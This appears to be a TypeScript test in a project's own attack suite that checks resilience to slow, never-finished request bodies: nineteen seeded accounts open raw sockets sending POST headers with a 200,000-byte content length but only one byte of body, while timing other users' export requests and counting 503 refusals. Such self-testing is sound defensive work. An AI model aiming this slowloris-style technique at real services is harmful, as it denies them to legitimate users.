// Nineteen accounts begin as many heavy requests as they may, and never finish their bodies.
import { connect as connectTo, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { connect } from '../../server/src/db/engine/connect.ts';
import type { Finding } from '../attacks.ts';
import { tokensOf } from '../lib/accounts.ts';
import { bearer } from '../lib/client.ts';
import { openSeeded } from '../lib/open-seeded.ts';

const ATTACKERS = 19;
/** As many as a user may have inside. */
const BODIES = 11;
const OTHERS = 21;

function beginBody(port: number, token: string): Socket {
  const socket = connectTo(port, '127.0.0.1').on('error', () => undefined);
  const head = [
    'POST /api/bank-lines/preview/ HTTP/1.1',
    'host: localhost',
    `authorization: Bearer ${token}`,
    'content-type: application/json',
    'content-length: 200000',
  ];
  socket.write(`${head.join('\r\n')}\r\n\r\n{`);
  return socket;
}

/** A heavy request: its status, and how long it took. */
async function readOwnData(url: string, token: string): Promise<{ status: number; ms: number }> {
  const start = performance.now();
  const answer = await fetch(`${url}/api/users/me/export/`, { headers: bearer(token) });
  await answer.arrayBuffer();
  return { status: answer.status, ms: performance.now() - start };
}

const longestOf = (answers: readonly { ms: number }[]) =>
  Math.round(Math.max(...answers.map(({ ms }) => ms)));

export async function attack(): Promise<Finding[]> {
  const size = { clubs: 1, members: ATTACKERS + OTHERS + 2, months: 0, records: 0 };
  const { server, clubs, databaseUrl, stop } = await openSeeded(size, { engine: 'SQLite' });
  const { url, dataDir } = server;
  const db = connect({ databaseUrl: databaseUrl ?? null, dataDir });
  const sockets: Socket[] = [];
  try {
    const tokens = await tokensOf(db, dataDir, clubs[0].memberIds.slice(1));
    const others = tokens.slice(ATTACKERS, ATTACKERS + OTHERS);
    const askOthers = async () => {
      const answers = [];
      for (const token of others) answers.push(await readOwnData(url, token));
      return answers;
    };
    // The threads start at the first requests.
    await Promise.all(others.slice(0, 2).map((token) => readOwnData(url, token)));
    const before = longestOf(await askOthers());
    for (const token of tokens.slice(0, ATTACKERS))
      for (let count = 0; count < BODIES; count += 1)
        sockets.push(beginBody(Number(new URL(url).port), token));
    await wait(1000);
    const answers = await askOthers();
    const refused = answers.filter(({ status }) => status === 503).length;
    return [
      { what: 'bodies that do not end', value: sockets.length },
      { what: `of ${OTHERS} heavy requests of others, 503`, value: refused },
      { what: 'the longest of them, ms', value: longestOf(answers) },
      { what: 'and before, ms', value: before },
    ];
  } finally {
    for (const socket of sockets) socket.destroy();
    await db.destroy();
    await stop();
  }
}
